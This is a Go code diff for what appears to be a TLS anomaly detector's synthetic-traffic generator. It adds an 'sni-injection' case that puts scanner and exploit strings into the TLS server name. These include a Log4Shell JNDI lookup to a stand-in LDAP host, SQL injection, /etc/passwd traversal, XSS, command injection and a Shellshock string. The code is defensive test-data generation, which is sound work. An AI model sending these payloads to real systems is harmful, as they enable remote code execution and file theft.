@@ -8,6 +8,7 @@ import (
 	"math/rand/v2"
 	"net/netip"
 	"path/filepath"
+	"strings"
 	"time"
 
 	"github.com/tlsentry/tlsentry/internal/capgen"
@@ -34,13 +35,18 @@ const (
 	StagerPayload = "stager-payload" // a handler sends a program (PE or ELF) before its client speaks
 	RolesSwapped  = "roles-swapped"  // the side that connected serves TLS: a real handshake, directions swapped
 	HelloCut      = "hello-cut"      // a real ClientHello cut over several TLS records (DPI evasion)
+	SNIInjection  = "sni-injection"  // a server name that is an exploit's or scanner's string, not a host name
 )
 
 // Anomalies lists the anomaly kinds.
 func Anomalies() []string {
 	return []string{NonTLSSSH, NonTLSHTTP, NonTLSRandom, TruncatedHello, MalformedHello, LegacyTLS10, OddCiphersNoSNI, SelfSigned,
-		PreambleConnect, PreambleBanner, ClientCert, FakeTLS, StagerPayload, RolesSwapped, HelloCut}
+		PreambleConnect, PreambleBanner, ClientCert, FakeTLS, StagerPayload, RolesSwapped, HelloCut, SNIInjection}
 }
+
+// injections are strings scanners and exploits put where a host name goes.
+var injections = []string{"${jndi:ldap://198.51.100.7:1389/Exploit}", "HOST' OR '1'='1", "../../../../etc/passwd", "HOST<script>alert(1)</script>",
+	"${jndi:dns://HOST/a}", "HOST;id", "HOST%00.example.org", "() { :; }; /bin/bash -c id"}
 
 var hosts = []string{"www.example.com", "api.example.com", "cdn.example.net", "mail.example.org", "login.example.com", "static.example.net"}
 
@@ -145,6 +151,14 @@ func one(ctx context.Context, kind string, i int, r *rand.Rand) (capgen.Conversa
 			capgen.ServerWrite(append(binary.LittleEndian.AppendUint32(nil, uint32(len(stage))), stage...)),
 			capgen.ClientWrite(randomBytes(r, 64+r.IntN(200))),
 		}, nil
+	case SNIInjection:
+		// A scanner's probe: a real handshake whose server name carries
+		// an injection string instead of a host name.
+		injected := injections[r.IntN(len(injections))]
+		return handshake(ctx, host, func(c, s *tls.Config) {
+			c.ServerName = strings.ReplaceAll(injected, "HOST", host)
+			c.InsecureSkipVerify = true
+		}, capgen.ECDSAP256, false)
 	case HelloCut:
 		// A client that slips past inspection of the first record: its
 		// hello (the first write, one record) cut in records of 20-200
